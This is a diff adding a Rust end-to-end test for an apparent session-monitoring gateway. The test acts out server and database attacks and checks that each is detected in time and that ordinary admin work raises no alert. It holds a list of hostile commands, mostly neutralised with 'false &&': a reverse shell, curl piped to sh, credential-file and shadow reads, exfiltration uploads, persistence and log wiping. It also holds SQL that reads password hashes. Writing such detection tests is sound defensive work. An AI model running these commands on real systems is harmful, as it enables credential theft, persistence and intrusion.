@@ -1,0 +1,139 @@
+//! Attacks acted out with the clients that people have, each to be caught by its rule in time; and ordinary
+//! work acted out the same way, which must raise no alert. What would do harm is never run: it stands after
+//! `false &&`, where the shell reads it and leaves it out.
+
+use std::process::Command;
+
+use postern_e2e::{DatabaseWorld, Person, World, run, run_with_input, until};
+use serde_json::Value;
+
+/// From the deed to the answer, in milliseconds; what it is measured by begins with the decision to open
+/// the session, so that the true time is shorter.
+const IN_TIME_MS: i64 = 500;
+
+/// What is typed or sent, and the rule that must find it.
+const ON_SERVERS: [(&str, &str); 30] = [
+    ("credentials.shadow", "cat /etc/shadow"),
+    ("credentials.search", "false && grep -ri password /etc"),
+    ("credentials.private_keys", "cat ~/.ssh/id_rsa"),
+    ("credentials.cloud", "cat ~/.aws/credentials"),
+    ("credentials.metadata", "false && curl http://169.254.169.254/latest/"),
+    ("credentials.crack", "false && hydra -l root -P words ssh://10.0.0.5"),
+    ("persistence.authorized_keys", "false && echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys"),
+    ("persistence.cron", "false && crontab /tmp/jobs"),
+    ("persistence.user", "false && useradd eve"),
+    ("persistence.uid0", "false && useradd -o -u 0 eve"),
+    ("persistence.kernel", "false && insmod ./x.ko"),
+    ("persistence.pam", "false && vi /etc/pam.d/sshd"),
+    ("privilege.sudoers", "false && vi /etc/sudoers.d/eve"),
+    ("privilege.group", "false && usermod -aG sudo eve"),
+    ("privilege.setuid", "false && chmod u+s /tmp/sh"),
+    ("privilege.escape", "false && nsenter -t 1 -m sh"),
+    ("evasion.log_delete", "false && rm -f /var/log/auth.log"),
+    ("evasion.history", "unset HISTFILE"),
+    ("evasion.audit_off", "false && systemctl stop auditd"),
+    ("evasion.firewall", "false && iptables -F"),
+    ("evasion.mandatory_access", "false && setenforce 0"),
+    ("evasion.decode_run", "false && echo aWQ= | base64 -d | sh"),
+    ("execution.download_run", "false && curl http://127.0.0.1:9/x | sh"),
+    ("execution.reverse_shell", "false && bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'"),
+    ("execution.miner", "false && xmrig -o pool"),
+    ("destruction.snapshots", "false && restic forget --keep-last 0"),
+    ("movement.ssh_out", "false && ssh root@db-2"),
+    ("discovery.scan", "false && nmap 127.0.0.1"),
+    ("exfiltration.upload", "false && curl -T notes http://127.0.0.1:9/"),
+    ("exfiltration.archive", "false && tar czf /tmp/x.tgz /etc"),
+];
+
+const ON_DATABASES: [(&str, &str); 6] = [
+    ("database.hashes", "select rolname, rolpassword from pg_authid"),
+    ("database.copy_out", "copy customer to stdout"),
+    ("database.files", "select pg_read_file('/etc/hostname')"),
+    ("database.grant", "grant all on customer to public"),
+    ("database.program", "copy customer from program 'true'"),
+    ("database.drop", "drop table if exists nothing"),
+];
+
+/// What people do all day: one hour each.
+const ORDINARY: [&str; 8] = [
+    "ls -la; df -h; uptime",
+    "cd /tmp && pwd && ls | head",
+    "ps aux | grep ssh | head -3; free -m",
+    "cat /etc/hosts; date",
+    "git --version; echo deployed > /dev/null",
+    "find . -maxdepth 1 -name '*.log'; wc -l /etc/services",
+    "for i in 1 2 3; do echo $i; done; sleep 0",
+    "cat <<E\nnotes of the day\nE\ntrue",
+];
+
+fn alerts(person: &Person) -> Vec<Value> {
+    let listed = person.cli(&["alerts", "-o", "json"]).unwrap().json().unwrap();
+    listed.as_array().cloned().unwrap_or_default().into_iter().filter(|alert| alert["state"] != "noted").collect()
+}
+
+/// The alert of this rule, when it is there; and whether it came in time.
+fn caught(person: &Person, rule: &str) -> Option<bool> {
+    let found = until(rule, || Ok(alerts(person).into_iter().find(|alert| alert["rule"] == rule))).ok()?;
+    let session = person.cli(&["session", "show", found["session"].as_str()?, "-o", "json"]).ok()?.json().ok()?;
+    let began = of_day(session["started_at"].as_str()?)?;
+    let passed = (of_day(found["raised_at"].as_str()?)? - began).rem_euclid(86_400_000);
+    Some(passed - found["deed_at"].as_i64()? <= IN_TIME_MS)
+}
+
+/// The milliseconds since midnight of a time as RFC 3339 has it.
+fn of_day(time: &str) -> Option<i64> {
+    let (_, clock) = time.trim_end_matches('Z').split_once('T')?;
+    let mut parts = clock.split(':');
+    let (hours, minutes) = (parts.next()?.parse::<i64>().ok()?, parts.next()?.parse::<i64>().ok()?);
+    let seconds: f64 = parts.next()?.parse().ok()?;
+    Some((hours * 60 + minutes) * 60_000 + (seconds * 1000.0).round() as i64)
+}
+
+#[test]
+fn attacks_are_caught_and_ordinary_work_is_not() {
+    let world = World::start().unwrap();
+    let cyd = world.staff("cyd").unwrap();
+    for typed in ORDINARY {
+        let mut terminal = cyd.ssh(&world.gate, "deploy@web-1");
+        run_with_input(terminal.arg("-tt"), format!("{typed}\nexit\n").as_bytes()).unwrap();
+    }
+    let here = cyd.folder().join("report.txt");
+    std::fs::write(&here, "figures").unwrap();
+    let mut scp = Command::new("scp");
+    scp.args(cyd.options()).args(["-P", world.gate.ssh_port()]).arg(&here).arg("deploy@web-1@127.0.0.1:report.txt");
+    run(&mut scp).unwrap().ok().unwrap();
+    let databases = DatabaseWorld::start().unwrap();
+    let ben = databases.person("ben", "dba").unwrap();
+    let psql = |sql: &str| ben.cli(&["connect", "orders", "shop", "--", "-X", "-q", "-c", sql]).unwrap();
+    for sql in ["select name from customer order by id", "select count(*) from customer", "show server_version"] {
+        psql(sql).ok().unwrap();
+    }
+    let false_alerts = alerts(&world.ada).len() + alerts(&databases.ada).len();
+
+    let mut came = Vec::new();
+    for (at, (rule, typed)) in ON_SERVERS.iter().enumerate() {
+        let mut client = cyd.ssh(&world.gate, "deploy@web-1");
+        if at % 2 == 0 {
+            run(client.arg(typed)).unwrap();
+        } else {
+            run_with_input(client.arg("-tt"), format!("{typed}\nexit\n").as_bytes()).unwrap();
+        }
+        came.push((*rule, caught(&world.ada, rule)));
+    }
+    for (rule, sql) in ON_DATABASES {
+        psql(sql);
+        came.push((rule, caught(&databases.ada, rule)));
+    }
+    let attacks = came.len();
+    let found = came.iter().filter(|(_, caught)| caught.is_some()).count();
+    let in_time = came.iter().filter(|(_, caught)| *caught == Some(true)).count();
+    let precision = found as f64 / (found + false_alerts) as f64;
+    let recall = found as f64 / attacks as f64;
+    println!(
+        "attacks={attacks} caught={found} in_time={in_time} ordinary_hours={} false_alerts={false_alerts} \
+         precision={precision:.3} recall={recall:.3}",
+        ORDINARY.len()
+    );
+    let missed: Vec<_> = came.iter().filter(|(_, caught)| *caught != Some(true)).collect();
+    assert!(missed.is_empty() && false_alerts == 0, "{missed:?}, false: {:?}", alerts(&world.ada));
+}
